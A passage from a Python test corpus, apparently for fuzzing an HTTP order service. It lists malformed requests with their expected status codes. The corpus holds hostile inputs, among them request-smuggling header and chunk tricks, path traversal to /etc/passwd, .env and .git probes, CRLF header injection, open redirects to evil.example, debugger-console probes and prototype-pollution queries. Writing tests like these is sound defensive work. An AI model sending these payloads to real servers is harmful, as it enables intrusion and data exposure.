            "chunked with a parameter": b"chunked;q=1",
            "chunked after a tabulator of its own": b"\x0bchunked",
            "in quotes": b'"chunked"',
            "empty": b"",
            "null": b"null",
        }.items()
    },
    "chunked in two headers": (_POST + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n<chunk>0\r\n\r\n", _READ),
    "identity and chunked in two headers": (
        _POST + b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n\r\n<chunk>0\r\n\r\n",
        _READ,
    ),
    "chunks in HTTP/1.0": (b"<method> <path> HTTP/1.0\r\n<head>Transfer-Encoding: chunked\r\n\r\n<chunk>0\r\n\r\n", _LIST),
    **{
        f"a chunk {what}": (_CHUNKED + value, statuses)
        for what, (value, statuses) in {
            "below zero": (b"-2\r\n<body>\r\n0\r\n\r\n" + _AFTER, _LIST),
            "in 0x": (b"0x<x>\r\n<body>\r\n0\r\n\r\n" + _AFTER, _LIST),
            "in no digits": (b"g\r\n<body>\r\n0\r\n\r\n" + _AFTER, _LIST),
            "beyond 64 bits": (b"fffffffffffffffff\r\n<body>\r\n0\r\n\r\n" + _AFTER, _LIST),
            "without a length": (b"\r\n<body>\r\n0\r\n\r\n" + _AFTER, _LIST),
            "with a plus": (b"+<x>\r\n<body>\r\n0\r\n\r\n" + _AFTER, _LIST),
            "with an underscore": (b"0_<x>\r\n<body>\r\n0\r\n\r\n" + _AFTER, _LIST),
            "after a space": (b" <x>\r\n<body>\r\n0\r\n\r\n" + _AFTER, _LIST),
            "with line feeds alone": (b"<x>\n<body>\n0\n\n" + _AFTER, _LIST),
            "with an extension": (b"<x>;a=b\r\n<body>\r\n0\r\n\r\n", _READ),
            "with a long extension": (b"<x>;" + b"a" * 100_000 + b"\r\n<body>\r\n0\r\n\r\n" + _AFTER, _LIST),
            "with a request as its extension": (b"<x>;GET /smuggled HTTP/1.1\r\n<body>\r\n0\r\n\r\n", _READ),
            "without its end": (b"<x>\r\n<body>0\r\n\r\n", _READ),
            "longer than it says": (b"<x>\r\n<body>xx\r\n0\r\n\r\n", _READ),
            "with a trailer": (b"<chunk>0\r\nX-T: 1\r\n\r\n", _READ),
            "with a length as trailer": (b"<chunk>0\r\nContent-Length: 60\r\n\r\n", _READ),
            "with a coding as trailer": (b"<chunk>0\r\nTransfer-Encoding: chunked\r\n\r\n", _READ),
            "with a broken trailer": (b"<chunk>0\r\nbad\r\n\r\n", _READ),
            "with many trailers": (b"<chunk>0\r\n" + b"X-T: 1\r\n" * 4_000 + b"\r\n", _READ),
            "of two megabytes": (b"200000\r\n" + b" " * 2**21 + b"\r\n0\r\n\r\n", _LIST),
            "with two thousand zeros": (b"0" * 2_000 + b"<x>\r\n<body>\r\n0\r\n\r\n", _READ),
        }.items()
    },
    "no Host": (b"<line><hostless><length>\r\n<body>", _LIST),
    "an empty Host": (b"<line><hostless>Host:\r\n<length>\r\n<body>", _LIST),
    "two Hosts": (_POST + b"Host: b\r\n<length>\r\n<body>", _LIST),
    "the same Host twice": (_POST + b"Host: a\r\n<length>\r\n<body>", _LIST),
    "no Host in HTTP/1.0": (b"<method> <path> HTTP/1.0\r\n<hostless><length>\r\n<body>", _READ),
    "a Host with a path": (_POST.replace(b"<head>", b"Host: a/b <x>\r\n") + b"<length>\r\n<body>", _LIST),
    "the target of a proxy": (b"<method> http://evil.example<path> HTTP/1.1\r\n<head><length>\r\n<body>", _READ),
    "the target of a proxy with TLS": (b"<method> https://evil.example<path> HTTP/1.1\r\n<head><length>\r\n<body>", _READ),
    "CONNECT": (b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example\r\n\r\n", _LIST),
    "OPTIONS *": (b"OPTIONS * HTTP/1.1\r\n<head>\r\n", _LIST),
    "GET *": (b"GET * HTTP/1.1\r\n<head>\r\n", _LIST),
    "TRACE": (b"TRACE <path> HTTP/1.1\r\n<head>\r\n", _LIST),
    "a target without a slash": (b"<method> v1/orders HTTP/1.1\r\n<head><length>\r\n<body>", _LIST),
    "a fragment": (b"<method> <path>#x HTTP/1.1\r\n<head><length>\r\n<body>", _READ),
    "a space in the target": (b"<method> <path> x HTTP/1.1\r\n<head><length>\r\n<body>", _LIST),
    "a NUL in the target": (b"<method> <path>\0 HTTP/1.1\r\n<head><length>\r\n<body>", _LIST),
    "UTF-8 in the target": (b"<method> <path>" + "\u00e9".encode() + b" HTTP/1.1\r\n<head><length>\r\n<body>", _LIST),
    "0xff in the target": (b"<method> <path>\xff HTTP/1.1\r\n<head><length>\r\n<body>", _LIST),
    **{
        f"the version {value.decode() or 'of nothing'}": (b"<method> <path> " + value + b"\r\n<head><length>\r\n<body>", _LIST)
        for value in (
            *(
                b"HTTP/0.9",
                b"HTTP/1.2",
                b"HTTP/2.0",
                b"HTTP/3",
                b"HTTP/1.1.1",
                b"HTTP/1",
                b"http/1.1",
                b"HTTP/01.1",
                b"HTTP/9.9",
                b"ICY/1.0",
            ),
            *(b"", b"HTTP/-1.1", b"HTTP/1.-1", b"HTTP / 1.1", b"HTTP/1.1x", b"HTTP/11", b"HTTPS/1.1"),
        )
    },
    "a space at the end of the first line": (b"<method> <path> HTTP/1.1 \r\n<head><length>\r\n<body>", _READ),
    "angle brackets in the target": (b"GET /<b> HTTP/1.1\r\n<head>\r\n", _LIST),
    "two spaces in the first line": (b"<method>  <path> HTTP/1.1\r\n<head><length>\r\n<body>", _LIST),
    "a tab in the first line": (b"<method>\t<path> HTTP/1.1\r\n<head><length>\r\n<body>", _LIST),
    "the preface of HTTP/2": (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", _LIST),
    "a request of HTTP/0.9": (b"GET /healthz\r\n\r\n", _LIST),
    "garbage": (b"\x00\xff\xfe garbage\r\n\r\n", _LIST),
    "empty lines": (b"\r\n\r\n\r\n\r\n<line><head><length>\r\n<body>", _READ),
    "a method in small letters": (b"post <path> HTTP/1.1\r\n<head><length>\r\n<body>", _READ),
    "a method that nobody knows": (b"BREW <path> HTTP/1.1\r\n<head><length>\r\n<body>", _LIST),
    "a method in brackets": (b"(x) <path> HTTP/1.1\r\n<head><length>\r\n<body>", _LIST),
    "a long method": (b"A" * 5_000 + b" <path> HTTP/1.1\r\n<head><length>\r\n<body>", _LIST),
    "a method with a NUL": (b"P\0ST <path> HTTP/1.1\r\n<head><length>\r\n<body>", _LIST),
    "a target of 200 kB": (b"<method> /" + b"a" * 200_000 + b" HTTP/1.1\r\n<head><length>\r\n<body>", _LIST),
    "a query of 200 kB": (b"<method> <path>?" + b"a" * 200_000 + b" HTTP/1.1\r\n<head><length>\r\n<body>", _LIST),
    "a header of 500 kB": (_POST + b"X-A: " + b"a" * 500_000 + b"\r\n<length>\r\n<body>", _READ),
    "5,000 headers": (_POST + b"X-A: a\r\n" * 5_000 + b"<length>\r\n<body>", _LIST),
    "an expectation": (_POST + b"Expect: 200-ok\r\n<length>\r\n<body>", _READ),
    "an upgrade to WebSocket": (
        b"GET <path> HTTP/1.1\r\n<head>Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
        b"Sec-WebSocket-Version: 13\r\n\r\n",
        _LIST,
    ),
    "an upgrade to HTTP/2": (
        b"GET <path> HTTP/1.1\r\n<head>Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n",
        _LIST,
    ),
    "a connection that names its length": (_POST + b"Connection: Content-Length\r\n<length>\r\n<body>", _READ),
    "credentials twice": (_POST + b"Authorization: Basic x\r\n<length>\r\n<body>", _LIST),
    "a type twice": (_POST + b"Content-Type: text/plain\r\n<length>\r\n<body>", _READ),
    "no length": (_POST + b"\r\n", _LIST),
    "no length, and a body": (_POST + b"Connection: close\r\n\r\n<body>\r\n\r\n", _LIST),
    "no chunk, and a body": (_POST + b"Connection: close\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n<body>", _LIST),
    "a length in a spelling of its own": (_POST + b"Content_Length: 60\r\n<length>\r\n<body>", _READ),
    "a body with GET": (b"GET /healthz HTTP/1.1\r\n<head><length>\r\n<body>", frozenset({200, 400})),
    "chunks with GET": (b"GET /healthz HTTP/1.1\r\n<head>Transfer-Encoding: chunked\r\n\r\n<chunk>0\r\n\r\n", frozenset({200, 400})),
}
UNFINISHED = {
    "nothing": b"",
    "a part of a line": b"PO",
    "a line": b"<line>",
    "a part of a head": b"<line>Host: a",
    "a head with line feeds alone": b"<method> <path> HTTP/1.1\nHost: a\n",
    "a head without a body": _POST + b"<length>\r\n",
    "a part of a body": _POST + b"Content-Length: 60\r\n\r\n<body>",
    "a part of a chunk": _CHUNKED + b'ff\r\n{"cursor": {',
    "a part of a chunk's length": _CHUNKED + b"ff",
    "the hello of TLS": bytes.fromhex("16030100c8010000c40303") + b"\0" * 200,
    "the hello of SOCKS": b"\x05\x01\x00",
}
TARGETS = (
    *("<root>", "<root>/", "<root>/.", "<root>/..", "<root>/../", "<root>/%2e%2e/metrics", "<root>/..%2fmetrics", "<root>//..//etc/passwd"),
    *(
        "<root>/..;/metrics",
        "<root>/%2e%2e%3b/x",
        "<root>/%252e%252e/x",
        "<root>/..%c0%af..%c0%afetc",
        "<root>/..%5c..%5cwindows",
        "<root>/\\..\\x",
    ),
    *(
        "<root>/orders/x;jsessionid=1",
        "<root>/orders%00",
        "<root>/orders%0a",
        "<root>/orders%20",
        "<root>/orders.json",
        "<root>/Orders",
        "<root>/ORDERS/x",
    ),
    *(
        "/.git/config",
        "/.env",
        "/etc/passwd",
        "/static/x.js",
        "/favicon.ico",
        "/robots.txt",
        "/admin",
        "/console",
        "/debug",
        "/log-in?next=//evil.example",
    ),
    *(
        "/redirect?to=https://evil.example",
        "/%2f%2fevil.example",
        "/%5cevil.example",
        "/%0d%0aLocation:%20https://evil.example",
        "/healthz/..",
        "/healthz/x",
    ),
    *(
        "/openapi.json/..%2f",
        "/docs/",
        "/docs/../x",
        "/__debugger__?cmd=resource",
        "/nowhere?__debugger__=yes&cmd=resource&f=debugger.js",
        "/wp-login.php",
        "/cgi-bin/x",
    ),
    *(
        "/" + "a/" * 500,
        "/%" * 200,
        "/" + "%f0%9f%8d%95" * 100,
        "/{order_id}",
        "/*",
        "/%",
        "/%zz",
        "/%u0041",
        "/x?%",
        "/x?" + "a" * 4_000,
    ),
)
QUERIES = (
    *(
        "",
        "&",
        "&&&=",
        "=",
        "=&=",
        "?",
        "%",
        "%zz=1",
        "%00=1",
        "a=b",
        "a=%00",
        "__proto__=1",
        "constructor[prototype]=1",
        "a[]=1",
        "a[0]=1",
        "a.b=1",
    ),
    *("a=" + "x" * 4_000, "&".join(f"a{n}=1" for n in range(500)), "%F0%9F%8D%95=%F0%9F%8D%95", "a=%ff%fe", "callback=alert", "jsonp=evil"),
    *(
        "file=../../etc/passwd",
        "path=/etc/passwd",
        "url=http://evil.example",
        "next=//evil.example",
        "redirect=//evil.example",
        "debug=1",
        "_method=DELETE",
    ),
)
BAD_QUERIES = (
    *(
        "limit=0",
        "limit=-1",
        "limit=1000000000",
        "limit=1e2",
        "limit=0x10",
        "limit=1.0",
        "limit=%2B1",
        "limit=",
        "limit=1%20",
        "limit=%D9%A1",
        "limit=NaN",
    ),
    *("limit=" + "9" * 400, "after=-1", "after=%00", "after=%ff", "after=../x", "after=" + "A" * 3_000),
)


def good_order(number: int) -> bytes:
    """An order that must be taken at any time."""
    body = json.dumps(an_order(f"corpus-good-{number}")).encode()
    return request("POST", "/v1/orders", body, authorization=CREDENTIALS["dojo"])


def good_bill(number: int) -> bytes:
    """The same at the till."""
    body = json.dumps(a_bill(id=f"corpus-good-till-{number}")).encode()
    return request("POST", "/till/orders", body, authorization=CREDENTIALS["till"])
